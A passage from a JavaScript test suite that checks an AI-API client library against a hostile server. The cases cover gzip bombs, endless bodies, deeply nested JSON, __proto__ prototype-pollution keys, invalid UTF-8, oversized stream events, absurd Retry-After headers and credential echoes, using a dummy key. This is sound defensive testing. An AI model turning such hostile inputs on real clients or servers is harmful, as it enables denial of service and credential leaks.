// The hostile-server cases, shared by Node (node.test.mjs) and headless Chromium (browser.test.mjs,
// which loads this file into a page from the servers at /hostile/cases.mjs). Plain ES module: no
// Node or browser API beyond what both have. Each case takes an `env`:
//   Z          the package module (pkg/index.js), already initialised
//   exports    what init() resolved to (its WebAssembly.Memory is found by type)
//   url        the hostile server (servers.mjs); attacker: the server that must never be contacted;
//              apis: more origins serving the same API
//   stats(tag) / waitClosed(ms)   the server's counters (waitClosed: until no API response is open)
//   gc()       a full garbage collection;  jsBytes(): JS heap in use (Node: heapUsed + arrayBuffers;
//              Chromium: performance.memory.usedJSHeapSize, precise);  rss(): Node only
// and resolves to its measured figures, or throws an Error saying what went wrong.

/** Content of every normal answer of the servers. */
export const ANSWER = 'ok from the hostile server';

/** Invalid UTF-8 (and some valid sequences between) that the servers put in a content string. */
export const INVALID_UTF8 = [
  0x61, 0xff, 0x62, // a, a byte that never occurs, b
  0x80, 0x63, // a lone continuation byte
  0xe4, 0xbd, 0x64, // a truncated 3-byte sequence
  0xc0, 0xaf, // an overlong '/'
  0xed, 0xa0, 0x80, // an encoded surrogate
  0xf4, 0x90, 0x80, 0x80, // above U+10FFFF
  0xe4, 0xbd, 0xa0, 0xf0, 0x9f, 0x8c, 0x8d, // 你🌍 (valid)
  0xf0, 0x9f, 0x98, // a truncated 4-byte sequence, right before the closing quote
];

const KEY = 'hostile-key-id.S3cretPart-0123456789abcdef';
const SECRET = KEY.slice(KEY.lastIndexOf('.') + 1);
const PARAMS = Object.freeze({ model: 'glm-4.6', messages: [{ role: 'user', content: 'Hi' }] });
const STREAM = Object.freeze({ ...PARAMS, stream: true });
const MiB = 1 << 20;
const DEFAULT_LIMIT = 32 * MiB;
const tooLarge = (n) => `The response body is larger than maxResponseBytes (${n} bytes)`;

/**
 * Cases that fail today, by name, with the reason (reported; reported as TODO by the runners, so
 * they do not stop ./scripts/test). Once such a case passes, its runner fails until the entry is
 * removed here: the case then guards the fix like every other.
 */
export const KNOWN_FAILURES = {};

/**
 * Runs case `name` through `run()` (which resolves to its figures) as a node:test test body:
 * a known failure is reported as TODO, a known failure that passes fails.
 */
export async function runCase(t, name, run, label) {
  const known = KNOWN_FAILURES[name];
  let figures;
  try {
    figures = await run();
  } catch (e) {
    if (known) t.todo(`known failure: ${known}`);
    throw e;
  }
  t.diagnostic(`${label}: ${JSON.stringify(figures)}`);
  if (known) throw new Error(`this known failure passes now: remove it from KNOWN_FAILURES in tests/hostile/cases.mjs`);
}

export function check(ok, message) {
  if (!ok) throw new Error(message);
}

const show = (v) => {
  try {
    return typeof v === 'string' ? JSON.stringify(v.length > 300 ? v.slice(0, 300) + '…' : v) : String(v);
  } catch {
    return '?';
  }
};

const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

/**
 * Spies on setTimeout/clearTimeout until restore(): pending() is how many timers the package
 * (pkg/index.js: not the HTTP stack's own) set meanwhile that have neither fired nor been cleared.
 */
function timers() {
  const { setTimeout: set, clearTimeout: clear } = globalThis;
  const live = new Set();
  let seen = 0;
  globalThis.setTimeout = function (fn, ms, ...rest) {
    const id = set.call(this, function (...a) {
      live.delete(id);
      return fn.apply(this, a);
    }, ms, ...rest);
    if (/pkg\/index\.js/.test(new Error().stack)) {
      live.add(id);
      seen++;
    }
    return id;
  };
  globalThis.clearTimeout = function (id) {
    live.delete(id);
    return clear.call(this, id);
  };
  return {
    pending: () => live.size,
    seen: () => seen,
    restore() {
      globalThis.setTimeout = set;
      globalThis.clearTimeout = clear;
    },
  };
}

/** Rejects with "`what`: no answer within `ms` ms" when `p` has not settled by then. */
export function within(ms, p, what) {
  let t;
  const late = new Promise((_, reject) => {
    t = setTimeout(() => reject(new Error(`${what}: no answer within ${ms} ms (hangs)`)), ms);
  });
  return Promise.race([p, late]).finally(() => clearTimeout(t));
}

/**
 * Awaits `p`, which must reject with the error class `name` (a ZaiError) whose message is `message`
 * (a string: equal; a RegExp: matching) within `ms`; resolves to { error, ms }.
 */
async function rejectsWith(env, p, { name, message, status, ms = 5000, what }) {
  const t0 = performance.now();
  let error;
  try {
    const v = await within(ms, p, what);
    throw Object.assign(new Error(`${what}: resolved (${show(JSON.stringify(v))}) instead of rejecting with ${name}`), { resolved: true });
  } catch (e) {
    if (e && e.resolved) throw e;
    error = e;
  }
  const took = performance.now() - t0;
  check(error instanceof env.Z.ZaiError, `${what}: rejected with ${error && error.name}: ${show(error && error.message)}, not a ZaiError`);
  check(error.name === name && error.constructor.name === name,
    `${what}: ${error.name} (${show(error.message)}) instead of ${name}`);
  if (typeof message === 'string') check(error.message === message, `${what}: message ${show(error.message)}, expected ${show(message)}`);
  else if (message) check(message.test(error.message), `${what}: message ${show(error.message)} does not match ${message}`);
  if (status !== undefined) check(error.status === status, `${what}: status ${error.status}, expected ${status}`);
  return { error, ms: Math.round(took) };
}

function client(env, options = {}) {
  return new env.Z.ZaiClient({ apiKey: KEY, baseURL: `${env.url}/api`, maxRetries: 0, ...options });
}

const hostile = (spec, more = {}) => ({ headers: { 'x-hostile': spec }, ...more });

/** The same client answers a normal call (and a normal stream) afterwards. */
async function stillWorks(c, what, { stream = false } = {}) {
  const r = await within(5000, c.chat.completions.create(PARAMS), `${what}: the next normal call`);
  check(r.choices[0].message.content === ANSWER, `${what}: the next normal call answered ${show(r.choices[0].message.content)}`);
  if (stream) {
    const s = await within(5000, c.chat.completions.create(STREAM), `${what}: the next normal stream`);
    let text = '';
    for await (const ch of s) text += ch.choices[0].delta.content ?? '';
    check(text === ANSWER, `${what}: the next normal stream sent ${show(text)}`);
  }
}

function wasmMemory(env) {
  const m = Object.values(env.exports).find((v) => v instanceof WebAssembly.Memory);
  check(m, 'init() resolved to no object holding a WebAssembly.Memory');
  return m;
}

/**
 * Runs `fn` while sampling memory every 2 ms: resolves to { value, ms, js, rss, wasm } where `js`
 * and `rss` are the peak growth over the value after a full GC just before, and `wasm` the growth
 * of the wasm memory. Whatever `fn` throws is rethrown.
 */
async function peak(env, fn) {
  await env.gc();
  const mem = wasmMemory(env);
  const js0 = env.jsBytes();
  const rss0 = env.rss ? env.rss() : 0;
  const wasm0 = mem.buffer.byteLength;
  let js = js0;
  let rss = rss0;
  const sample = () => {
    js = Math.max(js, env.jsBytes());
    if (env.rss) rss = Math.max(rss, env.rss());
  };
  const timer = setInterval(sample, 2);
  const t0 = performance.now();
  try {
    const value = await fn();
    return { value, ms: Math.round(performance.now() - t0), js: js - js0, rss: rss - rss0, wasm: mem.buffer.byteLength - wasm0 };
  } finally {
    clearInterval(timer);
    sample();
  }
}

/**
 * The memory a body read may take at its peak: 3× the limit, plus 8 MiB for what does not depend
 * on it (the HTTP stack's buffers, garbage not yet collected: up to 5 MiB measured with the 1 MiB
 * limit on a busy machine).
 */
const bound = (limit) => 3 * limit + 8 * MiB;

const mib = (n) => Math.round((n / MiB) * 10) / 10;

/** An endless JSON body must stop at `limit` with the limit's APIError, promptly and bounded. */
async function endless(env, { limit, status = 200, perCall = true, maxRetries = 0, ms }) {
  const tag = `endless-${status}-${limit}-${Math.random()}`;
  const what = `endless ${status} body, maxResponseBytes ${limit === undefined ? 'default' : `${limit}${perCall ? ' (per call)' : ' (client)'}`}`;
  const c = client(env, { maxRetries, ...(perCall || limit === undefined ? {} : { maxResponseBytes: limit }) });
  const opts = hostile(`endless;status=${status};tag=${tag}`, perCall && limit !== undefined ? { maxResponseBytes: limit } : {});
  const n = limit ?? DEFAULT_LIMIT;
  const m = await peak(env, () => rejectsWith(env, c.chat.completions.create(PARAMS, opts), { name: 'APIError', message: tooLarge(n), status, ms, what }));
  check(m.value.error.retryable === false, `${what}: retryable is ${m.value.error.retryable}`);
  await env.waitClosed(3000); // the connection was released
  const s = await env.stats(tag);
  check(s.tagHits === 1, `${what}: the server got ${s.tagHits} requests (a too-large body is not retried)`);
  check(m.js < bound(n), `${what}: the JS heap grew by ${mib(m.js)} MiB (bound ${mib(bound(n))} MiB)`);
  if (env.rss) check(m.rss < bound(n) + 8 * MiB, `${what}: RSS grew by ${mib(m.rss)} MiB (bound ${mib(bound(n) + 8 * MiB)} MiB)`);
  check(m.wasm <= n, `${what}: wasm memory grew by ${mib(m.wasm)} MiB`);
  await stillWorks(c, what);
  return { ms: m.value.ms, jsPeakMiB: mib(m.js), rssPeakMiB: mib(m.rss), wasmGrowthMiB: mib(m.wasm) };
}

/**
 * Spies on the global setTimeout/clearTimeout (which the runtime calls at call time): a timer whose
 * delay `watch(ms)` accepts is counted (`seen`) and kept in `live` until it fires or is cleared.
 * `restore()` puts the real functions back.
 */
function spyTimers(watch) {
  const spy = { live: new Set(), seen: 0, watch };
  const realSet = globalThis.setTimeout;
  const realClear = globalThis.clearTimeout;
  globalThis.setTimeout = function (fn, ms, ...args) {
    if (!spy.watch(ms)) return realSet(fn, ms, ...args);
    spy.seen++;
    const id = realSet((...a) => {
      spy.live.delete(id);
      fn(...a);
    }, ms, ...args);
    spy.live.add(id);
    return id;
  };
  globalThis.clearTimeout = function (id) {
    spy.live.delete(id);
    return realClear(id);
  };
  spy.setTimeout = (...a) => realSet(...a); // the real one, called without a receiver (a browser refuses any `this` but the window)
  spy.restore = () => {
    globalThis.setTimeout = realSet;
    globalThis.clearTimeout = realClear;
  };
  return spy;
}

/**
 * Checks that none of `secrets` appears anywhere in the error `e`, and that the echo was redacted
 * (in the message too unless `fixedMessage`).
 */
function secretFree(e, secrets, what, fixedMessage = false) {
  const views = {
    message: e.message,
    body: JSON.stringify(e.body),
    'String(err)': String(e),
    'JSON.stringify(err)': JSON.stringify(e),
    stack: String(e.stack),
  };
  for (const [where, text] of Object.entries(views)) {
    for (const [label, secret] of Object.entries(secrets)) {
      check(!String(text).includes(secret), `${what}: the ${label} appears in ${where}: ${show(text)}`);
    }
  }
  if (!fixedMessage) check(e.message.includes('[redacted]'), `${what}: the message does not show the echo was redacted: ${show(e.message)}`);
  check(JSON.stringify(e.body).includes('[redacted]'), `${what}: the body does not show the echo was redacted`);
}

/** A 401 echoing the Authorization header, the token or the key's secret part, with and without jwt. */
async function echoes(env, apiKey) {
  const figures = {};
  for (const jwt of [false, true]) {
    for (const what of ['header', 'token', 'secret']) {
      const label = `401 echoing the ${what}${jwt ? ' (jwt: true)' : ''}${typeof apiKey === 'function' ? ', key from a provider' : ''}`;
      const c = client(env, { jwt, apiKey });
      const spec = `echo-auth;what=${what}${jwt && what === 'secret' ? `;secret=${encodeURIComponent(SECRET)}` : ''}`;
      const { error, ms } = await rejectsWith(env, c.chat.completions.create(PARAMS, hostile(spec)),
        { name: 'AuthenticationError', message: /^Authorization failed for /, status: 401, what: label });
      check(error.code === '1000', `${label}: code ${error.code}`);
      const auth = (await env.stats()).lastAuthorization;
      const token = auth.replace(/^Bearer /, '');
      check(jwt ? token.split('.').length === 3 && token !== KEY : token === KEY, `${label}: the server saw ${show(auth)}`);
      secretFree(error, { key: KEY, 'secret part': SECRET, token }, label);
      await stillWorks(c, label);
      figures[label] = `${ms} ms: ${error.message}`;
    }
  }
  return figures;
}

/** A 200 event stream echoing the credential in an error event or in a chunk that is not JSON. */
async function streamEchoes(env) {
  const figures = {};
  for (const apiKey of [KEY, () => KEY]) {
    for (const jwt of [false, true]) {
      for (const what of ['header', 'token', 'secret']) {
        for (const kind of ['sse-error', 'sse-chunk']) {
          const label = `${kind} echoing the ${what}${jwt ? ' (jwt: true)' : ''}${typeof apiKey === 'function' ? ', key from a provider' : ''}`;
          const c = client(env, { jwt, apiKey });
          const spec = `echo-auth;kind=${kind};what=${what}${jwt && what === 'secret' ? `;secret=${encodeURIComponent(SECRET)}` : ''}`;
          const s = await within(5000, c.chat.completions.create(STREAM, hostile(spec)), label);
          const first = await within(5000, s.next(), `${label}: the first chunk`);
          check(!first.done && first.value.choices[0].delta.content === 'a', `${label}: the first chunk`);
          const { error, ms } = await rejectsWith(env, s.next(), kind === 'sse-error'
            ? { name: 'APIError', message: /^Authorization failed for /, what: label }
            : { name: 'APIError', message: 'The stream sent a chunk that is not valid JSON', what: label });
          const token = (await env.stats()).lastAuthorization.replace(/^Bearer /, '');
          secretFree(error, { key: KEY, 'secret part': SECRET, token }, label, kind === 'sse-chunk');
          figures[label] = `${ms} ms: ${kind === 'sse-error' ? error.message : show(error.body)}`;
        }
      }
    }
  }
  return figures;
}

export const CASES = {
  async 'endless 200 JSON body: maxResponseBytes 1 MiB (per call and client option)'(env) {
    const perCall = await endless(env, { limit: MiB, ms: 3000 });
    const clientOption = await endless(env, { limit: MiB, perCall: false, ms: 3000 });
    return { perCall, clientOption };
  },

  async 'endless 200 JSON body: the default 32 MiB'(env) {
    return endless(env, { limit: undefined, ms: 10_000 });
  },

  async 'gzip bomb (256 MiB inflated) at the default limit'(env) {
    const c = client(env);
    const what = 'gzip bomb';
    const m = await peak(env, () => rejectsWith(env, c.chat.completions.create(PARAMS, hostile('bomb;mib=256')),
      { name: 'APIError', message: tooLarge(DEFAULT_LIMIT), status: 200, ms: 10_000, what }));
    check(m.value.ms < 8000, `${what}: took ${m.value.ms} ms`);
    await env.waitClosed(3000);
    check(m.js < bound(DEFAULT_LIMIT), `${what}: the JS heap grew by ${mib(m.js)} MiB`);
    if (env.rss) check(m.rss < bound(DEFAULT_LIMIT) + 8 * MiB, `${what}: RSS grew by ${mib(m.rss)} MiB`);
    check(m.wasm <= DEFAULT_LIMIT, `${what}: wasm memory grew by ${mib(m.wasm)} MiB`);
    await stillWorks(c, what);
    return { ms: m.value.ms, jsPeakMiB: mib(m.js), rssPeakMiB: mib(m.rss), wasmGrowthMiB: mib(m.wasm) };
  },

  async 'endless 500 error body: the same limit error, not retried'(env) {
    return endless(env, { limit: MiB, status: 500, maxRetries: 2, ms: 3000 });
  },

  async '401 echoing the credential: no key, secret part or signed token in the error'(env) {
    return echoes(env, KEY);
  },

  async '401 echoing the credential of an apiKey provider: no key, secret part or signed token in the error'(env) {
    return echoes(env, () => KEY);
  },

  async 'an event stream echoing the credential (error event, chunk not JSON): no key, secret part or signed token in the error'(env) {
    return streamEchoes(env);
  },

  async 'invalid UTF-8 in a JSON body and in an SSE stream'(env) {
    const expected = new TextDecoder().decode(Uint8Array.from(INVALID_UTF8));
    check(expected.includes('\uFFFD') && expected.includes('你🌍'), 'the test data decodes as expected');
    const c = client(env);
    const r = await within(5000, c.chat.completions.create(PARAMS, hostile('utf8;kind=json')), 'utf8 JSON');
    check(r.choices[0].message.content === expected, `utf8 JSON: content ${show(r.choices[0].message.content)}, expected ${show(expected)}`);
    const s = await within(5000, c.chat.completions.create(STREAM, hostile('utf8;kind=sse')), 'utf8 SSE');
    const pieces = [];
    await within(5000, (async () => {
      for await (const ch of s) pieces.push(ch.choices[0].delta.content);
    })(), 'utf8 SSE: reading');
    check(pieces.length === 4, `utf8 SSE: ${pieces.length} chunks, expected 4`);
    pieces.forEach((p, i) => check(p === `${i}${expected}`, `utf8 SSE: chunk ${i} is ${show(p)}, expected ${show(`${i}${expected}`)}`));
    const final = await within(5000, s.finalChatCompletion(), 'utf8 SSE: finalChatCompletion');
    check(final.choices[0].message.content === pieces.join(''),
      `utf8 SSE: finalChatCompletion content ${show(final.choices[0].message.content)}, expected ${show(pieces.join(''))}`);
    await stillWorks(c, 'utf8', { stream: true });
    return { replaced: [...expected].filter((ch) => ch === '\uFFFD').length };
  },

  async '1e5-deep JSON in an answer, an error body and a stream chunk'(env) {
    const n = 100_000;
    const c = client(env);
    const t0 = performance.now();
    const r = await within(5000, c.chat.completions.create(PARAMS, hostile(`deep;kind=answer;n=${n}`)), 'deep answer');
    check(r.choices[0].message.content === ANSWER, `deep answer: content ${show(r.choices[0].message.content)}`);
    let depth = 0;
    for (let v = r.deep; Array.isArray(v); v = v[0]) depth++;
    check(depth === n, `deep answer: depth ${depth}`);
    const answerMs = Math.round(performance.now() - t0);
    const { error, ms: errorMs } = await rejectsWith(env, c.chat.completions.create(PARAMS, hostile(`deep;kind=error;n=${n}`)),
      { name: 'BadRequestError', message: 'deep error body', status: 400, what: 'deep error body' });
    check(error.code === '1214', `deep error body: code ${error.code}`);
    const t1 = performance.now();
    const s = await within(5000, c.chat.completions.create(STREAM, hostile(`deep;kind=sse;n=${n}`)), 'deep chunk');
    const chunks = [];
    await within(5000, (async () => {
      for await (const ch of s) chunks.push(ch);
    })(), 'deep chunk: reading');
    check(chunks.length === 1 && chunks[0].choices[0].delta.content === ANSWER, `deep chunk: ${chunks.length} chunks`);
    const final = await within(5000, s.finalChatCompletion(), 'deep chunk: finalChatCompletion');
    check(final.choices[0].message.content === ANSWER, `deep chunk: final content ${show(final.choices[0].message.content)}`);
    await stillWorks(c, 'deep', { stream: true });
    return { answerMs, errorMs, streamMs: Math.round(performance.now() - t1) };
  },

  async '__proto__ keys in an answer, a stream chunk and an error body do not pollute Object.prototype'(env) {
    const clean = (what) => {
      check(Object.prototype.polluted === undefined && ({}).polluted === undefined && ({}).content === undefined,
        `${what}: Object.prototype was polluted`);
    };
    const plain = (o, what) => check(Object.getPrototypeOf(o) === Object.prototype, `${what}: the object's prototype was replaced`);
    const c = client(env);
    const r = await within(5000, c.chat.completions.create(PARAMS, hostile('proto;kind=answer')), 'proto answer');
    clean('proto answer');
    plain(r, 'proto answer');
    plain(r.choices[0].message, 'proto answer message');
    check(Object.prototype.hasOwnProperty.call(r, '__proto__') && r.polluted === undefined,
      'proto answer: __proto__ is not kept as an own data property');
    check(r.choices[0].message.content === ANSWER, `proto answer: content ${show(r.choices[0].message.content)}`);
    const s = await within(5000, c.chat.completions.create(STREAM, hostile('proto;kind=sse')), 'proto chunk');
    const chunks = [];
    for await (const ch of s) chunks.push(ch);
    clean('proto chunk');
    check(chunks.length === 1 && chunks[0].choices[0].delta.content === ANSWER, 'proto chunk: content');
    plain(chunks[0], 'proto chunk');
    plain(chunks[0].choices[0].delta, 'proto chunk delta');
    const final = await s.finalChatCompletion();
    clean('proto finalChatCompletion');
    plain(final, 'proto finalChatCompletion');
    plain(final.choices[0].message, 'proto finalChatCompletion message');
    check(final.choices[0].message.content === ANSWER, `proto finalChatCompletion: content ${show(final.choices[0].message.content)}`);
    const { error } = await rejectsWith(env, c.chat.completions.create(PARAMS, hostile('proto;kind=error')),
      { name: 'BadRequestError', message: 'proto error', status: 400, what: 'proto error body' });
    clean('proto error body');
    check(error.code === '1214', `proto error body: code ${error.code}`);
    plain(error.body, 'proto error body');
    await stillWorks(c, 'proto', { stream: true });
    return {};
  },

  async 'every kind of failure releases its connection and its timers (limit, timeout, abort, bad JSON, 5xx)'(env) {
    // The runtime's deadline timer is set to what is left of the call's `timeout` (T): the spy
    // keeps the timers set with a delay just under T that have neither fired nor been cleared.
    const timers = spyTimers(() => false);
    const LONG = 7777;
    const SHORT = 333;
    const kinds = [
      ['body past maxResponseBytes', 'endless', { maxResponseBytes: 65536 }, LONG,
        { name: 'APIError', message: tooLarge(65536), status: 200 }],
      ['timeout before the head', 'stall;at=head', {}, SHORT, { name: 'APITimeoutError', message: 'Request timed out' }],
      ['timeout mid-body', 'stall;at=body', {}, SHORT, { name: 'APITimeoutError', message: 'Request timed out' }],
      ['abort before the head', 'stall;at=head', { abortAfter: 100 }, LONG, { name: 'APIUserAbortError', message: 'Request was aborted' }],
      ['abort mid-body', 'stall;at=body', { abortAfter: 100 }, LONG, { name: 'APIUserAbortError', message: 'Request was aborted' }],
      ['bad JSON', 'bad-json', {}, LONG, { name: 'APIError', message: 'The response body is not valid JSON', status: 200 }],
      ['503 error', 'retry-after', {}, LONG, { name: 'InternalServerError', message: 'overloaded, come back later', status: 503 }],
    ];
    const figures = {};
    const c = client(env);
    try {
      for (const [label, spec, { abortAfter, ...more }, timeout, expected] of kinds) {
        timers.watch = (ms) => ms > timeout - 200 && ms <= timeout;
        timers.seen = 0;
        const ac = new AbortController();
        if (abortAfter) timers.setTimeout(() => ac.abort(), abortAfter);
        const { ms } = await rejectsWith(env, c.chat.completions.create(PARAMS, hostile(spec, { timeout, signal: ac.signal, ...more })),
          { ...expected, what: label, ms: 5000 });
        const t0 = performance.now();
        const s = await env.waitClosed(3000);
        check(s.open === 0, `${label}: ${s.open} responses still open`);
        await sleep(20);
        check(timers.seen > 0, `${label}: the spy saw no deadline timer (of ${timeout} ms)`);
        check(timers.live.size === 0, `${label}: ${timers.live.size} timer(s) of the call still set after it failed`);
        figures[label] = `failed in ${ms} ms, connection closed ${Math.round(performance.now() - t0)} ms later`;
      }
    } finally {
      timers.restore();
    }
    await stillWorks(c, 'failure kinds');
    return figures;
  },

  async 'absurd Retry-After values: the wait is capped at 60 s'(env) {
    // The wait between attempts is the runtime's one setTimeout whose callback is a promise's
    // resolve function (anonymous, length 1); the spy records its delay. A wait of a second or more
    // is then cut short by aborting (which must reject at once), a short one is sat through.
    const far = 'Fri, 31 Dec 9999 23:59:59 GMT';
    const cases = [
      ['Retry-After 999999999999 (seconds)', 'ra=999999999999', 60_000],
      [`Retry-After ${far}`, `ra=${encodeURIComponent(far)}`, 60_000],
      ['retry-after-ms 999999999999', 'ms=999999999999', 60_000],
      ['retry-after-ms -1 with Retry-After 3600', 'ms=-1;ra=3600', 60_000],
      // Digits past what a u64 holds: a very long delay, so the cap (RFC 9111 §1.2.2).
      ['Retry-After 99999999999999999999', 'ra=99999999999999999999', 60_000],
      // Neither delay-seconds (1*DIGIT) nor an HTTP-date (RFC 9110 §10.2.3): ignored, so the
      // backoff's first wait (375..500 ms). `Date.parse` read -5 and 1.5 as dates in 2001 (0 ms).
      ['Retry-After 1e308', 'ra=1e308', [375, 500]],
      ['Retry-After -5', 'ra=-5', [375, 500]],
      ['Retry-After 1.5', 'ra=1.5', [375, 500]],
      ['Retry-After 2026-12-03 (an ISO date)', 'ra=2026-12-03', [375, 500]],
      ['Retry-After garbage', 'ra=soon%2C%20maybe', [375, 500]],
    ];
    const figures = {};
    const real = globalThis.setTimeout;
    for (const [label, spec, want] of cases) {
      const c = client(env);
      const ac = new AbortController();
      let seen = false;
      let wait;
      globalThis.setTimeout = function (fn, ms, ...rest) {
        if (seen && wait === undefined && typeof fn === 'function' && fn.length === 1 && fn.name === '') {
          wait = ms;
          if (ms >= 1000) real(() => ac.abort(), 0);
        }
        return real.call(this, fn, ms, ...rest);
      };
      let outcome;
      try {
        const opts = hostile(`retry-after;${spec}`, { maxRetries: 1, timeout: 120_000, signal: ac.signal, onResponse: () => { seen = true; } });
        const long = Array.isArray(want) ? false : want >= 1000;
        outcome = await rejectsWith(env, c.chat.completions.create(PARAMS, opts), long
          ? { name: 'APIUserAbortError', what: label, ms: 3000 }
          : { name: 'InternalServerError', message: 'overloaded, come back later', status: 503, what: label, ms: 3000 });
      } finally {
        globalThis.setTimeout = real;
      }
      check(typeof wait === 'number', `${label}: no wait between the attempts was seen`);
      if (Array.isArray(want)) check(wait >= want[0] && wait <= want[1], `${label}: waited ${wait} ms, expected ${want[0]}..${want[1]}`);
      else check(wait === want, `${label}: the wait was ${wait} ms, expected ${want}`);
      if (!Array.isArray(want)) check(outcome.ms < 1000, `${label}: aborting the wait took ${outcome.ms} ms`);
      figures[label] = `wait ${wait} ms, settled in ${outcome.ms} ms`;
    }
    await stillWorks(client(env), 'Retry-After');
    return figures;
  },

  async 'absurd Retry-After values: maxRetries 1 and timeout 1000 end by the deadline'(env) {
    const far = 'Fri, 31 Dec 9999 23:59:59 GMT';
    const specs = ['ra=999999999999', `ra=${encodeURIComponent(far)}`, 'ms=999999999999', 'ra=-5', 'ra=garbage'];
    const timeout = 1000;
    const c = client(env, { maxRetries: 1 });
    const results = await Promise.all(specs.map(async (spec) => {
      const label = `Retry-After ${decodeURIComponent(spec)}, timeout ${timeout}`;
      const t0 = performance.now();
      let error;
      try {
        await within(timeout + 2000, c.chat.completions.create(PARAMS, hostile(`retry-after;${spec}`, { timeout })), label);
      } catch (e) {
        error = e;
      }
      const ms = Math.round(performance.now() - t0);
      check(error instanceof env.Z.ZaiError, `${label}: ${error ? `${error.name}: ${error.message}` : 'resolved'}`);
      // The long waits are cut by the deadline (APITimeoutError at `timeout`); the short ones retry
      // once and report the server's error.
      const long = !/-5|garbage/.test(spec);
      if (long) {
        check(error.name === 'APITimeoutError', `${label}: ${error.name}: ${error.message} instead of APITimeoutError`);
        check(ms >= timeout - 50 && ms < timeout + 700, `${label}: settled after ${ms} ms`);
      } else {
        check(error.name === 'InternalServerError' && error.status === 503, `${label}: ${error.name} ${error.status}: ${error.message}`);
        check(ms < timeout, `${label}: settled after ${ms} ms`);
      }
      return [label, `${error.name} after ${ms} ms`];
    }));
    await stillWorks(c, 'Retry-After deadline');
    return Object.fromEntries(results);
  },

  async 'Retry-After in the past: retried at once'(env) {
    const past = new Date(Date.now() - 3_600_000).toUTCString();
    const tag = `past-${Math.random()}`;
    const c = client(env, { maxRetries: 1 });
    const t0 = performance.now();
    const r = await within(5000, c.chat.completions.create(PARAMS, hostile(`retry-after;ra=${encodeURIComponent(past)};fail=1;tag=${tag}`)), 'past Retry-After');
    const ms = Math.round(performance.now() - t0);
    check(r.choices[0].message.content === ANSWER, 'past Retry-After: the retry did not answer');
    const s = await env.stats(tag);
    check(s.tagHits === 2, `past Retry-After: ${s.tagHits} requests, expected 2`);
    // The backoff without a hint would wait at least 375 ms.
    check(ms < 300, `past Retry-After: took ${ms} ms (the date in the past means "now")`);
    return { ms, retryAfter: past };
  },

  async 'a 16 MiB+ SSE data line: the event-size error, socket released'(env) {
    const c = client(env);
    const figures = {};
    // Three times: the memory the first lines took is reused (it is not per line).
    let total = 0;
    for (const run of ['first', 'second', 'third']) {
      const what = `16 MiB+ SSE line (${run})`;
      const m = await peak(env, async () => {
        const s = await within(5000, c.chat.completions.create(STREAM, hostile('sse-line')), what);
        const first = await within(5000, s.next(), `${what}: the first chunk`);
        check(!first.done && first.value.choices[0].delta.content === 'first', `${what}: the chunk before the line was not delivered`);
        const r = await rejectsWith(env, s.next(), { name: 'APIError', message: /^A stream event exceeded the 16 MiB size limit/, ms: 10_000, what });
        const after = await within(1000, s.next(), `${what}: next() after the error`);
        check(after.done === true, `${what}: next() after the error did not report done`);
        return r;
      });
      const t0 = performance.now();
      await env.waitClosed(3000);
      const releaseMs = Math.round(performance.now() - t0);
      check(m.js < 4 * 16 * MiB, `${what}: the JS heap grew by ${mib(m.js)} MiB`);
      if (env.rss) check(m.rss < 5 * 16 * MiB, `${what}: RSS grew by ${mib(m.rss)} MiB`);
      // The parser's line buffer doubles up to 1 MiB, then takes the 16 MiB cap at once (never
      // more): 18 MiB of wasm memory for the first line; the allocator may split the freed 16 MiB
      // for the next line's small steps and take 16 MiB more once; then no more (measured in
      // Node and Chromium: 18 + 0 + 0 and 17.5 + 16 + 0; the doubling past the cap this replaced
      // took 63 MiB, then 32 MiB more). A leak per line would pass the bound by the third.
      total += m.wasm;
      check(total <= 3 * 16 * MiB + 4 * MiB, `${what}: wasm memory grew by ${mib(total)} MiB over the lines so far`);
      figures[run] = { ms: m.ms, errorMs: m.value.ms, releaseMs, jsPeakMiB: mib(m.js), rssPeakMiB: mib(m.rss), wasmGrowthMiB: mib(m.wasm) };
    }
    await stillWorks(c, '16 MiB+ SSE line', { stream: true });
    return figures;
  },

  async 'an open SSE event, then an endless comment line: the event-size error, socket and timers released'(env) {
    const c = client(env);
    const figures = {};
    for (const run of ['first', 'second']) {
      const what = `endless comment in an open event (${run})`;
      const spy = timers();
      let m;
      try {
        m = await peak(env, async () => {
          const s = await within(5000, c.chat.completions.create(STREAM, hostile('sse-comment')), what);
          const first = await within(5000, s.next(), `${what}: the first chunk`);
          check(!first.done && first.value.choices[0].delta.content === 'first', `${what}: the chunk before the event was not delivered`);
          const r = await rejectsWith(env, s.next(), { name: 'APIError', message: /^A stream event exceeded the 16 MiB size limit/, ms: 10_000, what });
          const after = await within(1000, s.next(), `${what}: next() after the error`);
          check(after.done === true, `${what}: next() after the error did not report done`);
          return r;
        });
      } finally {
        spy.restore();
      }
      await env.waitClosed(3000);
      await sleep(50);
      check(spy.seen() > 0, `${what}: no timer of the package was seen (the spy does not work here)`);
      check(spy.pending() === 0, `${what}: ${spy.pending()} timers of the stream are still pending`);
      // The JS text window holds at most the 16 MiB cap (and one read); nothing of a comment is
      // kept in wasm.
      check(m.js < 4 * 16 * MiB, `${what}: the JS heap grew by ${mib(m.js)} MiB`);
      if (env.rss) check(m.rss < 5 * 16 * MiB, `${what}: RSS grew by ${mib(m.rss)} MiB`);
      check(m.wasm <= 2 * MiB, `${what}: wasm memory grew by ${mib(m.wasm)} MiB`);
      figures[run] = { errorMs: m.value.ms, jsPeakMiB: mib(m.js), rssPeakMiB: mib(m.rss), wasmGrowthMiB: mib(m.wasm) };
    }
    await stillWorks(c, 'endless comment', { stream: true });
    return figures;
  },

  async 'one SSE event of many empty data lines: bounded like any event, in linear time'(env) {
    const c = client(env);
    const figures = {};
    // 1 MiB of `data:` / `data` lines (~190,000 lines, each counting 64 bytes besides its text)
    // fits in the 16 MiB cap: the stream goes on; 4 MiB does not: the event-size error.
    for (const kib of [256, 1024]) {
      const what = `${kib} KiB of empty data lines`;
      const m = await peak(env, async () => {
        const s = await within(5000, c.chat.completions.create(STREAM, hostile(`sse-empty;kib=${kib}`)), what);
        const chunks = [];
        await within(10_000, (async () => {
          for await (const ch of s) chunks.push(ch.choices[0].delta.content);
        })(), `${what}: reading`);
        check(chunks.length === 1 && chunks[0] === ANSWER, `${what}: chunks ${show(JSON.stringify(chunks))}`);
      });
      check(m.wasm <= 4 * MiB, `${what}: wasm memory grew by ${mib(m.wasm)} MiB`);
      figures[what] = { ms: m.ms, jsPeakMiB: mib(m.js), wasmGrowthMiB: mib(m.wasm) };
    }
    const what = '4 MiB of empty data lines';
    const m = await peak(env, async () => {
